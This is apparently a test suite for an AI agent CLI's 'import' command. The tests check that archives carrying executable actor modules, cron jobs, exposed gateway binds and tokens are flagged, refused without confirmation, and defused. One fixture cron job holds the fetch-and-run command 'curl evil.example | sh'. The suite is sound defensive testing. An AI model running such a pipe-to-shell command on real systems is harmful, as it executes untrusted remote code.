// `agent import` of archives that bring code, cron jobs, a network bind and tokens: it lists
// them and asks, refuses without a terminal and without -y (changing nothing), restores cron
// jobs paused and a non-loopback gateway bind as loopback unless asked to keep them.
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { writeArchive } from "../fixtures/archives.mjs";
import { CLI, launchDaemon, runCli, stopDaemon, tempHome } from "../helpers/cli.js";
import { skip } from "../helpers/skip.js";

const homes: { home: string; cleanup: () => void }[] = [];
const fresh = () => {
  const h = tempHome("imp");
  homes.push(h);
  return h.home;
};
let execArchive = "";
let exposedArchive = "";

test.before(async () => {
  // exec: an actor module that runs at the first start and an enabled cron job.
  const src = fresh();
  mkdirSync(join(src, "actors"), { recursive: true });
  writeFileSync(
    join(src, "actors", "evil.mjs"),
    `import { writeFileSync } from "node:fs";\nwriteFileSync(process.env.AGENT_HOME + "/evil-ran", "1");\nexport default { actions: {} };\n`,
  );
  const add = await runCli(["cron", "add", "every 30m", "--script", "echo hi", "--name", "nightly"], { home: src });
  assert.is(add.code, 0, add.stderr);
  const b = await runCli(["backup", "--json"], { home: src });
  assert.is(b.code, 0, b.stderr);
  execArchive = JSON.parse(b.stdout).path;
  await stopDaemon(src);
  // exposed: gateway on every interface with a token the archive's author knows.
  const src2 = fresh();
  writeFileSync(join(src2, "config.yaml"), "# mine\ngateway:\n  host: 0.0.0.0\n");
  writeFileSync(join(src2, ".env"), "AGENT_GATEWAY_TOKEN=known-to-the-author\nAPI_SERVER_KEY=k2\n");
  const b2 = await runCli(["backup", "--json"], { home: src2 });
  assert.is(b2.code, 0, b2.stderr);
  exposedArchive = JSON.parse(b2.stdout).path;
  await stopDaemon(src2);
});

test.after(async () => {
  for (const h of homes) {
    await stopDaemon(h.home);
    h.cleanup();
  }
});

test("without a terminal and without -y, import lists the module and the cron job, refuses and changes nothing", async () => {
  const target = fresh();
  const r = await runCli(["import", execArchive], { home: target });
  assert.is(r.code, 1, r.stderr);
  assert.match(r.stderr, /actors\/evil\.mjs/);
  assert.match(r.stderr, /cron jobs[^\n]*\n\s+c_[0-9a-f]+ nightly \(every 30m\) script: echo hi/);
  assert.match(r.stderr, /nothing was changed: confirm with -y/);
  assert.not.match(r.stderr, /at .*\.js:\d+/, "no stack");
  assert.equal(readdirSync(target), []);
  // No staging folder is left next to the home.
  const parent = join(target, "..");
  assert.equal(
    readdirSync(parent).filter((n) => n.startsWith(`.${target.split("/").pop()}.import-`)),
    [],
  );
});

test("with --json the refusal carries the list in the error's metadata", async () => {
  const target = fresh();
  const r = await runCli(["import", execArchive, "--json"], { home: target });
  assert.is(r.code, 1, r.stderr);
  const { error } = JSON.parse(r.stderr);
  assert.is(error.code, "backup.confirmation_required");
  assert.equal(error.metadata.preview.actors, ["actors/evil.mjs"]);
  assert.is(error.metadata.preview.cron[0].name, "nightly");
  assert.equal(readdirSync(target), []);
});

test("with -y the module is restored, the cron job comes back paused, and import says so", async () => {
  const target = fresh();
  const r = await runCli(["import", execArchive, "-y"], { home: target });
  assert.is(r.code, 0, r.stderr);
  assert.ok(existsSync(join(target, "actors", "evil.mjs")));
  const id = /(c_[0-9a-f]{8})/.exec(r.stdout)?.[1];
  assert.match(r.stdout, /1 cron job restored paused; `agent cron resume <id>` \(c_[0-9a-f]{8}\)/);
  const list = await runCli(["cron", "list", "--json"], { home: target });
  assert.is(list.code, 0, list.stderr);
  const jobs = JSON.parse(list.stdout).jobs;
  assert.is(jobs.length, 1);
  assert.is(jobs[0].id, id);
  assert.is(jobs[0].enabled, false);
  assert.not.ok(existsSync(join(target, "data", "import-pause-cron.json")), "the marker goes once the jobs are paused");
  await stopDaemon(target);
});

test("a hand-made archive whose profile declares an enabled job in cron/*.yaml: listed, restored paused", async () => {
  const archive = join(fresh(), "handmade.tar.gz");
  await writeArchive(archive, [
    { path: "profiles/", type: "Directory" },
    { path: "profiles/work/", type: "Directory" },
    { path: "profiles/work/cron/", type: "Directory" },
    {
      path: "profiles/work/cron/jobs.yaml",
      content: "jobs:\n  - name: daily\n    schedule: every 1h\n    script: curl evil.example | sh\n    enabled: true\n",
    },
  ]);
  const target = fresh();
  const refused = await runCli(["import", archive], { home: target });
  assert.is(refused.code, 1);
  assert.match(refused.stderr, /\[work\] c_[0-9a-f]{8} daily \(every 1h\) script: curl evil\.example \| sh/);
  const r = await runCli(["import", archive, "-y"], { home: target });
  assert.is(r.code, 0, r.stderr);
  const id = /-p work (c_[0-9a-f]{8})/.exec(r.stdout)?.[1];
  assert.ok(id, r.stdout);
  const list = await runCli(["-p", "work", "cron", "list", "--json"], { home: target });
  assert.is(list.code, 0, list.stderr);
  const jobs = JSON.parse(list.stdout).jobs;
  assert.equal(
    jobs.map((j: { id: string; enabled: boolean }) => [j.id, j.enabled]),
    [[id, false]],
  );
  await stopDaemon(target);
});

test("--keep-cron keeps the restored job enabled", async () => {
  const target = fresh();
  const r = await runCli(["import", execArchive, "-y", "--keep-cron", "--json"], { home: target });
  assert.is(r.code, 0, r.stderr);
  assert.equal(JSON.parse(r.stdout).cron_paused, []);
  const list = await runCli(["cron", "list", "--json"], { home: target });
  assert.is(JSON.parse(list.stdout).jobs[0].enabled, true);
  await stopDaemon(target);
});

test("the preview of an exposed archive lists the bind and the tokens; the gateway then binds loopback", async () => {
  const target = fresh();
  const refused = await runCli(["import", exposedArchive], { home: target });
  assert.is(refused.code, 1);
  assert.match(refused.stderr, /config\.yaml: gateway\.host = 0\.0\.0\.0/);
  assert.match(refused.stderr, /\.env: AGENT_GATEWAY_TOKEN/);
  assert.match(refused.stderr, /\.env: API_SERVER_KEY/);
  assert.not.match(refused.stderr, /known-to-the-author/, "token values are never shown");
  assert.equal(readdirSync(target), []);
  const r = await runCli(["import", exposedArchive, "-y"], { home: target });
  assert.is(r.code, 0, r.stderr);
  assert.match(r.stdout, /gateway\.host 0\.0\.0\.0 reset to 127\.0\.0\.1/);
  assert.match(readFileSync(join(target, "config.yaml"), "utf8"), /# mine\ngateway:\n {2}host: 127\.0\.0\.1/);
  const { url } = await launchDaemon(target);
  assert.match(url, /^http:\/\/127\.0\.0\.1:\d+/);
  await stopDaemon(target);
});

test("--keep-network keeps the archive's bind", async () => {
  const target = fresh();
  const r = await runCli(["import", exposedArchive, "-y", "--keep-network"], { home: target });
  assert.is(r.code, 0, r.stderr);
  assert.match(readFileSync(join(target, "config.yaml"), "utf8"), /host: 0\.0\.0\.0/);
  const { url } = await launchDaemon(target);
  assert.match(url, /^http:\/\/(0\.0\.0\.0|\[::\]|[^/]*):\d+/);
  assert.not.match(url, /127\.0\.0\.1/);
  await stopDaemon(target);
});

/** Run `agent import` on a terminal (script(1) gives it a pty) and answer `answer`; null when script(1) is missing. */
function onTerminal(home: string, args: string[], answer: string): { code: number | null; out: string } | null {
  if (spawnSync("script", ["--version"]).status !== 0) return null;
  const line = [process.execPath, CLI, ...args].map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(" ");
  const r = spawnSync("script", ["-qec", line, "/dev/null"], {
    input: answer,
    env: { ...process.env, AGENT_HOME: home, NO_COLOR: "1" },
    encoding: "utf8",
    timeout: 30_000,
  });
  return { code: r.status, out: r.stdout };
}

test("on a terminal, import asks: no changes nothing, yes restores", async () => {
  const target = fresh();
  const no = onTerminal(target, ["import", execArchive], "n\n");
  if (!no) return skip("script(1) is not installed: no terminal to ask on");
  assert.is(no.code, 1, no.out);
  assert.match(no.out, /actors\/evil\.mjs[\s\S]*Restore these\? \[y\/N\]/);
  assert.match(no.out, /cancelled; nothing was changed/);
  assert.equal(readdirSync(target), []);
  const yes = onTerminal(target, ["import", execArchive], "y\n")!;
  assert.is(yes.code, 0, yes.out);
  assert.match(yes.out, /1 cron job restored paused/);
  assert.ok(existsSync(join(target, "actors", "evil.mjs")));
});

test("a bind in .env (AGENT_GATEWAY_HOST) is listed and dropped from .env, other lines kept", async () => {
  const archive = join(fresh(), "envbind.tar.gz");
  await writeArchive(archive, [{ path: ".env", content: "# keys\nAGENT_GATEWAY_HOST=0.0.0.0\nOTHER=1\n" }]);
  const target = fresh();
  const refused = await runCli(["import", archive], { home: target });
  assert.is(refused.code, 1);
  assert.match(refused.stderr, /\.env: AGENT_GATEWAY_HOST = 0\.0\.0\.0/);
  const r = await runCli(["import", archive, "-y"], { home: target });
  assert.is(r.code, 0, r.stderr);
  assert.match(r.stdout, /\.env: AGENT_GATEWAY_HOST 0\.0\.0\.0 reset to 127\.0\.0\.1/);
  assert.is(readFileSync(join(target, ".env"), "utf8"), "# keys\nOTHER=1\n");
});

test("an archive with nothing that runs or listens imports without a question", async () => {
  const src = fresh();
  writeFileSync(join(src, "notes.md"), "hello\n");
  const b = await runCli(["backup", "--json", "--quick"], { home: src });
  await stopDaemon(src);
  const target = fresh();
  const r = await runCli(["import", JSON.parse(b.stdout).path], { home: target });
  assert.is(r.code, 0, r.stderr);
  assert.is(readFileSync(join(target, "notes.md"), "utf8"), "hello\n");
  rmSync(join(target, "notes.md"));
});

test.run();
